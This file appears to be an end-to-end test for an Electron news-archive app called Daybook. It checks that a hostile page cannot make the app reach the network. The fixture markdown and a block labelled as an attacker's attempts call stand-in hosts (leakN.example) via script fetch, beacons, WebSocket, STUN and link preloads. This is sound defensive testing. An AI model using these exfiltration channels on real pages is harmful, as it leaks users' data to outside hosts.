import path from 'node:path';
import { smallArchive, writeArchive } from '../archives.ts';
import { expect, test, untilSearchable } from '../daybook.ts';

/** Addresses in every place of a page where an address can stand, and ways out in every place where text can. */
const hostileArchive = {
  ...smallArchive,
  'news/2015/09/5/a-page-that-wants-out.md': `### [2015-09-5](/news/2015/09/5/index.md)

##### <link rel=dns-prefetch href=//leak1.example>
# A page that wants out <img src=https://leak2.example/x.png> ![x](https://leak3.example/x.png)

<script>fetch('https://leak4.example/')</script> <iframe src=https://leak5.example></iframe>

### Sources:

1. [leak](https://leak6.example/) [IMG](https://leak7.example/x.png) [IMG](//leak8.example/x.png)

### Related:

1. [x](/news/2015/09/4/the-long-bridge-opens-to-traffic.md) _Context: <img src=https://leak9.example>_
`,
};

test('everything is used', async ({ launch, temporaryFolder }) => {
  const archive = await writeArchive(path.join(temporaryFolder, 'hostile'), hostileArchive);
  const daybook = await launch({ archive });
  const { app, page } = daybook;
  await untilSearchable(daybook);

  await page.getByRole('grid').getByText('A page that wants out').click();
  const heading = page.getByRole('region', { name: 'Event', exact: true }).getByRole('heading', { level: 2 });
  await expect(heading).toContainText('leak2.example');
  await page.getByRole('button', { name: 'Next event' }).click();
  await expect(page.getByRole('region', { name: 'Event', exact: true }).locator('figure img')).toBeVisible();
  await page.getByRole('button', { name: 'Close the event' }).click();

  await page.getByRole('combobox', { name: 'Search the archive' }).fill('leak https://leak6.example/');
  await page.getByRole('button', { name: 'Clear the search' }).click();
  await page.getByRole('slider').first().focus();
  for (const key of ['ArrowRight', '+', 'Enter', 'Escape']) await page.keyboard.press(key);
  await page.getByRole('button', { name: /^Not / }).first().click();

  await app.evaluate(({ dialog }) => {
    dialog.showMessageBox = () => Promise.resolve({ response: 2, checkboxChecked: false });
  });
  expect(await page.evaluate(() => window.daybook.request('openLink', { url: 'https://leak10.example/' }))).toBe(
    'cancelled',
  );

  // What a page taken over by an attacker would try.
  await page.evaluate(async () => {
    const quietly = (attempt: () => unknown): Promise<unknown> =>
      Promise.resolve()
        .then(attempt)
        .catch(() => undefined);
    await quietly(() => fetch('https://leak11.example/'));
    await quietly(() => fetch('http://192.0.2.1/'));
    await quietly(() => new WebSocket('wss://leak12.example/'));
    await quietly(() => new EventSource('https://leak13.example/'));
    await quietly(() => navigator.sendBeacon('https://leak14.example/', 'x'));
    await quietly(() => Object.assign(new Image(), { src: 'https://leak15.example/x.png' }));
    await quietly(() => window.open('https://leak16.example/'));
    await quietly(async () => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: ['stun:leak17.example', 'stun:192.0.2.2'] }] });
      connection.createDataChannel('x');
      await connection.setLocalDescription(await connection.createOffer());
    });
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'stylesheet', 'icon', 'manifest']) {
      document.head.append(
        Object.assign(document.createElement('link'), { rel, href: `https://leak-${rel}.example/` }),
      );
    }
    navigator.geolocation.getCurrentPosition(
      () => undefined,
      () => undefined,
    );
  });

  const pid = await app.evaluate(
    ({ app: main }) => main.getAppMetrics().find(({ name }) => name === 'Daybook Archive')?.pid ?? 0,
  );
  process.kill(pid, 'SIGKILL');
  await page.getByRole('combobox', { name: 'Search the archive' }).fill('ferry');
  await expect(page.locator('mark').first()).toHaveText(/ferr/i);

  // Chromium's own errands come a while after its start.
  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 12_000)));
});
